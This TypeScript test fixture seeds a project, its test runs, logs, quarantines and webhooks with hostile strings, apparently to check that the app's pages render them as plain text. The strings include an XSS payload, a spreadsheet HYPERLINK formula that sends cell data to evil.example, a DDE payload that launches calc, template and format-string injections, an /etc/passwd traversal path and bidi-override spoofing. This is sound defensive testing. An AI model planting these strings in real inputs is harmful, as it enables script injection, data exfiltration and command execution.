import { createChangeFor } from '../../core/changes/testing.ts'
import { createGeneratedTestFor } from '../../core/generated-tests/testing.ts'
import { createQuarantineFor } from '../../core/quarantine/testing.ts'
import { createSuggestionFor } from '../../core/suggestions/testing.ts'
import { TestRunEntity } from '../../core/test-runs/entity.ts'
import { createProjectFor, createRunFor } from '../../core/testing/factories.ts'
import { createVerificationFor } from '../../core/verifications/testing.ts'
import { createDeliveryFor, createWebhookFor } from '../../core/webhooks/testing.ts'
import type { UserRow } from '../../core/identity/users/entity.ts'
import { fingerprintOf } from '../../engines/reports/fingerprint.ts'
import { fillHostileGate } from './gates.ts'
import { judgeRuns } from './health.ts'
import { day, idAt } from './random.ts'
import { storeResults } from './runs.ts'
import { storeShadow } from './selections.ts'
import { storeLog } from './logs.ts'
import type { Target } from './target.ts'

/** Sets `window.attacked` if it runs. */
const script = '<img src=x onerror="window.attacked=1"><script>window.attacked=1</script>'

/** Texts that pages must show as they are. */
export const hostileTexts: readonly string[] = [
  script,
  '\u202Egnp.exe\u202C \u2066admin\u2069 \u200Bzero\u200Bwidth',
  'مرحبا بالعالم ← שלום',
  'a\u0007bell \u001b[31mred\u001b[0m and\ttab',
  '👩‍👩‍👧‍👦🏳️‍🌈 e\u0301\u0301\u0301\u0301 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  `${'very-long-name-'.repeat(66)}end`,
  '${alert(1)} {{7*7}} %s %n javascript:alert(1)',
  '../../../../etc/passwd',
]

export interface Hostile {
  projectId: string
  runId: string
  testIds: readonly string[]
  gateId: string
}

/** Creates a project in which every text is hostile. */
export async function fillHostile(
  app: Target,
  { user, organizationId, repository }: { user: UserRow; organizationId: string; repository: string },
  now: Date,
): Promise<Hostile> {
  const project = await createProjectFor(app, {
    user,
    organizationId,
    repository,
    name: `${script.slice(0, 60)} \u202Eesrever\u202C`,
    description: hostileTexts.join(' '),
    language: '<b>JS</b>',
    framework: '"><i>x',
  })
  const projectId = project.id
  const of = { projectId, userId: user.id }
  const branches = ['<script>attacked</script>', '=1+1', 'feature/\u202Eevil', '👩‍👩‍👧‍👦', 'b'.repeat(250)]
  const runs = await Promise.all(
    branches.map((branch, index) =>
      createRunFor(app, {
        ...of,
        id: idAt(new Date(now.getTime() - index * 60_000)),
        branch: index === 0 ? 'main' : branch,
        commitSha: 'd'.repeat(40),
        name: hostileTexts[index] ?? null,
        status: index === 4 ? 'FAILED' : 'COMPLETED',
        error: index === 4 ? { code: 'install_failed', message: hostileTexts.join('\n') } : null,
        warnings: hostileTexts.map((text) => ({ code: 'note' as const, text })),
        startedAt: now,
        completedAt: now,
        duration: 1_000,
      }),
    ),
  )
  const runId = runs[0]?.id ?? ''
  await fillResults(app, runId, (index) => index % 2 === 0)
  // So many failures are an outage, which judges no test.
  const quietId = runs[1]?.id ?? ''
  await fillResults(app, quietId, (index) => index === 0)
  await judgeRuns(app, [quietId, runId])
  await fillQuarantines(app, projectId, now)
  await storeLog({ app }, runId, [
    ...hostileTexts,
    `One megabyte: ${'<b>'.repeat(350_000)}`,
    '\u001b[5;41mblink\u001b[0m',
  ])
  for (const [index, text] of hostileTexts.entries()) {
    const path = `src/${text.slice(0, 900)}.js`
    const target = { symbol: text.slice(0, 400), startLine: 1, endLine: 2 }
    await createSuggestionFor(app, {
      ...of,
      filePath: path,
      description: text,
      rationale: text,
      exampleCode: text,
      target,
      fingerprint: `hostile-${index}`,
    })
    await createGeneratedTestFor(app, {
      ...of,
      filePath: path,
      code: text,
      description: text,
      target: { path, ...target },
    })
    await createVerificationFor(app, {
      ...of,
      filePath: path,
      code: text,
      status: 'failed',
      error: { code: 'fetch_failed', message: text },
      completedAt: now,
    })
  }
  await createChangeFor(app, {
    ...of,
    head: 'feature/\u202Eevil',
    base: '<script>',
    status: 'failed',
    error: { code: 'fetch_failed', message: hostileTexts.join('\n') },
    completedAt: now,
  })
  const webhook = await createWebhookFor(app, {
    ...of,
    organizationId,
    description: script,
    url: 'https://example.com/?<script>',
    active: false,
    disabledReason: hostileTexts.join(' '),
  })
  await createDeliveryFor(app, {
    webhookId: webhook.id,
    status: 'failed',
    nextAttemptAt: null,
    responseStatus: 500,
    error: hostileTexts.join(' '),
    body: JSON.stringify({
      id: 'x',
      event: 'project.updated',
      timestamp: now.toISOString(),
      data: { name: hostileTexts },
    }),
  })
  const testIds = hostileTexts.map((_, index) => testIdAt(index))
  const gateId = await fillHostileGate(app, projectId, hostileTexts, testIds)
  const missed = hostileTexts.map((text) => ({ suite: text, name: text, file: text, because: text }))
  const [whyAll = null] = hostileTexts
  await storeShadow(
    app,
    { id: runId, projectId },
    { mode: 'all', whyAll, selected: 1, failures: missed.length, missed },
  )
  return { projectId, runId, testIds, gateId }
}

const testIdAt = (index: number) => `00000000-0000-4000-9000-00000000000${index}`

/** Every second one is granted. */
async function fillQuarantines(app: Target, projectId: string, now: Date): Promise<void> {
  for (const [index, text] of hostileTexts.entries()) {
    const granted = { status: 'active' as const, decidedAt: now, expiresAt: new Date(now.getTime() + index * day) }
    await createQuarantineFor(app, {
      projectId,
      testId: testIdAt(index),
      suite: text,
      name: text,
      file: `test/${text.slice(0, 900)}.js`,
      reason: text,
      owner: text.slice(0, 200),
      issueUrl: `https://example.com/?${encodeURIComponent(text)}`,
      ...(index % 2 === 0 ? {} : granted),
    })
  }
}

async function fillResults(app: Target, runId: string, fails: (index: number) => boolean): Promise<void> {
  const rows = hostileTexts.map((text, index) => [
    runId,
    index,
    testIdAt(index),
    text,
    text,
    `test/${text.slice(0, 900)}.js`,
    1,
    fails(index) ? 'failed' : 'passed',
    1,
    fails(index) ? text : null,
    fails(index) ? `${text}\n    at ${text} (${text}:1:1)` : null,
    null,
    false,
    fails(index) ? fingerprintOf({ message: text, stack: null, file: null, suite: text }, { roots: [] }).id : null,
    '',
    false,
  ])
  await storeResults({ app }, rows)
  const failedTests = rows.filter((row) => row[7] === 'failed').length
  const passedTests = rows.length - failedTests
  const runs = app.dataSource.getRepository(TestRunEntity)
  await runs.update({ id: runId }, { totalTests: rows.length, failedTests, passedTests })
}
